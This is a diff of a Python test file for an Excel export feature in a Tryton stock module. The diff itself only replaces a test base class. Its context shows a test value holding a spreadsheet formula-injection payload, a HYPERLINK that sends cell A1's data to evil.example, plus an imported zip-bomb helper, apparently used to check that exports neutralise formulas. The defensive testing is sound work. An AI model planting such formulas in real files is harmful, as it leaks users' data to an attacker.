@@ -8,7 +8,9 @@ from trytond.exceptions import UserError
 from trytond.modules.company.tests import set_company
 from trytond.modules.factory_stock_ext.tests.tools_excel import zip_bomb
 from trytond.pool import Pool
-from trytond.tests.test_tryton import _DBTestCase, with_transaction
+from trytond.tests.test_tryton import with_transaction
+from trytond.modules.factory_stock_ext.tests.db_test_case import (
+    DBTestCase)
 
 from trytond.modules.factory_stock_ext import excel
 
@@ -19,7 +21,7 @@ from .test_opening import DATE, counts, setup
 NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bolt")'
 
 
-class ExcelFilesTestCase(_DBTestCase):
+class ExcelFilesTestCase(DBTestCase):
     module = 'stock_ledger'
 
     @with_transaction()
@@ -65,4 +67,4 @@ class ExcelFilesTestCase(_DBTestCase):
                 cell.value.startswith(excel.FORMULA_START))
 
 
-del _DBTestCase
+del DBTestCase
